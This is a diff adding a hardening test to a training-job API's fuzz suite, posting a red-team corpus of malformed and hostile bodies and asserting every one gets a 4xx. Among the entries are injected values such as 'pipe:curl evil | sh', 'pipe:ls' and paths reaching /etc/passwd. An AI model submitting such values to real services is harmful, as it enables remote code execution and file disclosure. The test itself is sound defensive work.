@@ -3,6 +3,7 @@ gets a 5xx, and every error is the service's JSON error shape."""
 
 from __future__ import annotations
 
+import httpx
 import pytest
 import schemathesis
 from hypothesis import HealthCheck, given, settings
@@ -58,3 +59,80 @@ def test_no_input_makes_the_server_fail(fuzz_server):
                     assert "Traceback" not in response.text
 
         check()
+
+
+def _spec(**overrides) -> dict:
+    spec = {"data": {"train": "/tmp/fuzz/train-{000..001}.tar", "num_classes": 10},
+            "loss": {"name": "cross_entropy"}, "epochs": 1}  # fmt: skip
+    spec.update(overrides)
+    return spec
+
+
+# What the red team sent (service hardening): malformed and hostile bodies, each must get a 4xx
+# with the error shape, never a 5xx, a dropped connection or a stalled server.
+HOSTILE_BODIES: list[tuple[str, bytes | str]] = [
+    ("application/json", b"[" * 100_000 + b"]" * 100_000),
+    ("application/json", b'{"a":' * 5_000),
+    ("application/json", b'{"seed": ' + b"9" * 5_000 + b"}"),
+    ("application/json", b'{"data": {}, "data": {}}'),
+    ("application/json", b"\xff\xfe not utf-8"),
+    ("application/json", b""),
+    ("application/json", b"null"),
+    ("application/json", b'"a string"'),
+    ("text/plain", b'{"data": {"train": "/tmp/x.tar", "num_classes": 10}}'),
+    ("application/x-www-form-urlencoded", b"data=1&loss=2"),
+    ("application/json", _spec(data={"train": "/tmp/fuzz/x-{0..99999999}.tar", "num_classes": 10})),
+    (
+        "application/json",
+        _spec(
+            data={
+                "train": "/tmp/fuzz/x-{0..9}{0..9}{0..9}{0..9}{0..9}{0..9}.tar",
+                "num_classes": 10,
+            }
+        ),
+    ),  # fmt: skip
+    ("application/json", _spec(data={"train": "/tmp/fuzz/x-{0..1{2..3}}.tar", "num_classes": 10})),
+    ("application/json", _spec(data={"train": "pipe:curl evil | sh", "num_classes": 10})),
+    ("application/json", _spec(data={"train": "file:///etc/passwd", "num_classes": 10})),
+    ("application/json", _spec(data={"train": "/tmp/../etc/x.tar", "num_classes": 10})),
+    ("application/json", _spec(seed=2**70)),
+    ("application/json", _spec(checkpoint={"keep_last": 2**62})),
+    ("application/json", _spec(scaling={"num_workers": 10_000, "use_gpu": True})),
+    ("application/json", _spec(scaling={"cpus_per_worker": 1e308})),
+    ("application/json", _spec(storage="https://example.com/runs")),
+    ("application/json", _spec(storage="/etc/passwd")),
+    ("application/json", _spec(model={"pretrained": "pipe:ls"})),
+    (
+        "application/json",
+        '{"data": {"train": "/tmp/x.tar", "num_classes": 10}, '
+        '"data": {"train": "/tmp/y.tar", "num_classes": 10}}',
+    ),  # fmt: skip
+    (
+        "application/json",
+        '{"data": {"train": "/tmp/x.tar", "num_classes": 10, '
+        '"augment": {"mean": [NaN], "std": [Infinity]}}}',
+    ),  # fmt: skip
+]
+
+
+def test_hostile_bodies_never_make_the_server_fail(fuzz_server):
+    import json
+
+    server, token = fuzz_server
+    requests = server_errors = 0
+    with httpx.Client(base_url=server.url, timeout=60) as http:
+        for path in ("/v1/jobs", "/v1/sweeps"):
+            for content_type, body in HOSTILE_BODIES:
+                if isinstance(body, dict):
+                    body = json.dumps({"train": body, "search": {}} if "sweeps" in path else body)
+                for headers in ({"Authorization": f"Bearer {token}"}, {}):
+                    response = http.post(
+                        path, content=body, headers={**headers, "Content-Type": content_type}
+                    )
+                    requests += 1
+                    server_errors += response.status_code >= 500
+                    assert 400 <= response.status_code < 500, (body[:200], response.text[:300])
+                    assert set(response.json()) == {"error", "message", "errors"}
+        assert http.get("/healthz").status_code == 200  # and the server still answers
+    print(f"\nhostile corpus: {requests} requests, {server_errors} answered 5xx")
+    assert server_errors == 0
